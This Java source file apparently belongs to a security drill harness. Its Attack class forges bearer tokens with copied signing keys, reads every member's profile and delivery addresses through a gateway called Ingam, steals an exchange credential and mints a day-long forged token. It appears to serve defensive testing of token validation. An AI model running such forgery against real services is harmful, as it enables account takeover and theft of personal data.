package dev.ingam.drill.attack;

import dev.ingam.drill.attack.Forger.Forgery;
import dev.ingam.drill.web.Crew;
import dev.ingam.drill.web.DrillException;
import dev.ingam.drill.web.HttpCaller;
import dev.ingam.drill.web.Json;
import java.net.URI;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/// The attack in four raids. Each tries every member and returns its loot; keys once copied are
/// used until the end.
final class Attack implements AutoCloseable {
  private static final int HANDS = 8;

  /// An honest lifetime, so that nothing but the missing entry gives the token away.
  private static final int SECONDS = 300;

  private static final String PROFILE = "/my/profile";
  private static final String ADDRESSES = "/my/delivery-addresses";

  private final AttackConfig config;
  private final HttpCaller http;
  private final Clock clock;
  private final SecureRandom random;
  private final Crew crew = new Crew(HANDS);
  private final Diary diary = new Diary();
  private final Forger forger;
  private final List<StolenKey> copied;

  /// What the exchange thief read, how many tokens he got, and what was read with forged tokens
  /// meanwhile.
  record ExchangeLoot(Loot thief, long tokens, Loot forged) {
    Json toJson() {
      return thief.toJson().with("tokens", tokens).with("forged", forged.toJson());
    }
  }

  /// Copies the signing store and logs in as the customer that the attacker is too.
  Attack(AttackConfig config, HttpCaller http, Clock clock, SecureRandom random) {
    this.config = config;
    this.http = http;
    this.clock = clock;
    this.random = random;
    this.copied = new ArrayList<>(config.signing().open());
    this.forger = new Forger(ownToken(), clock, random);
    copied.sort((one, other) -> Boolean.compare(isActive(other), isActive(one)));
    if (copied.isEmpty() || !isActive(copied.getFirst())) {
      throw new DrillException("the key that signs is not in the copied store");
    }
  }

  int keysCopied() {
    return copied.size();
  }

  /// The gate of 2025, with the key that signs.
  Loot signatureOnly() {
    var loot = new Loot();
    var active = copied.getFirst();
    crew.each(
        config.targets().accounts(),
        number -> {
          var token = forger.forge(active, member(number), Forgery.of(number), SECONDS);
          read(config.targets().behindSignatureOnly(), token, loot);
        });
    return loot;
  }

  /// Ingam's gate, with every copied key, for every member and for some who do not exist.
  Loot ingam() {
    var loot = new Loot();
    raidWith(copied.size(), loot);
    return loot;
  }

  /// The log-in system's own key and credential, while the members are logged in; the copied keys
  /// go on meanwhile.
  ExchangeLoot exchange() {
    var loot = new Loot();
    var forged = new Loot();
    var thief = new ExchangeThief(config.login(), http, clock, random);
    crew.each(
        config.targets().accounts(),
        number -> {
          var token = thief.token(member(number), number, forger.honestSession(), loot);
          if (token != null) {
            read(config.targets().behindIngam(), token, loot);
          }
          raidIngam(number % copied.size(), number, forged);
        });
    return new ExchangeLoot(loot, thief.tokens(), forged);
  }

  /// The reserve's master key too: each of its keys for every member, and once more one of the
  /// others for each.
  Loot reserve() {
    var fresh = config.reserve().open();
    if (fresh.isEmpty()) {
      throw new DrillException("expected a key in the reserve's store, came none to steal");
    }
    copied.addAll(0, fresh);
    var loot = new Loot();
    raidWith(fresh.size(), loot);
    var older = copied.size() - fresh.size();
    crew.each(
        config.targets().accounts(),
        number -> raidIngam(fresh.size() + number % older, number, loot));
    return loot;
  }

  /// How many tokens of each raid on Ingam name somebody who does not exist.
  int forNobody() {
    return config.targets().unknown();
  }

  /// How many forged requests had been sent to Ingam's gate by then.
  long sentUntil(Instant instant) {
    return diary.sentUntil(instant);
  }

  Instant firstSent() {
    return diary.first();
  }

  /// A forged token that lasts for a day, for people who want to try it by hand.
  String souvenir() {
    var active =
        copied.stream().filter(this::isActive).findFirst().orElseThrow(IllegalStateException::new);
    return forger.forge(active, member(1), Forgery.MADE_UP_SERIAL, 86_400);
  }

  @Override
  public void close() {
    crew.close();
  }

  /// Every member with each of the first so many keys, and people who do not exist with the first.
  private void raidWith(int keys, Loot loot) {
    var members = config.targets().accounts();
    for (int key = 0; key < keys; key++) {
      var which = key;
      crew.each(members, number -> raidIngam(which, number, loot));
    }
    crew.each(config.targets().unknown(), number -> raidIngam(0, members + number, loot));
  }

  /// The kind of forgery changes with the member and with the key, so that each meets each.
  private void raidIngam(int key, int number, Loot loot) {
    var kind = Forgery.of(number + key);
    var token = forger.forge(copied.get(key), member(number), kind, SECONDS);
    diary.write(clock.instant());
    read(config.targets().behindIngam(), token, loot);
  }

  private void read(URI shop, String token, Loot loot) {
    var bearer = HttpCaller.bearer(token);
    if (loot.count(http.get(shop.resolve(PROFILE), bearer))) {
      loot.count(http.get(shop.resolve(ADDRESSES), bearer));
    }
  }

  private boolean isActive(StolenKey key) {
    return key.kid().equals(forger.honestKid());
  }

  private String ownToken() {
    var self =
        Json.empty()
            .with("member", config.self().member())
            .with("password", config.self().password());
    return http.post(config.targets().login().resolve("/login"), Map.of(), self)
        .expect("the attacker's own log-in")
        .text("access_token");
  }

  private static String member(int number) {
    return String.format(Locale.ROOT, "m-%06d", number);
  }
}
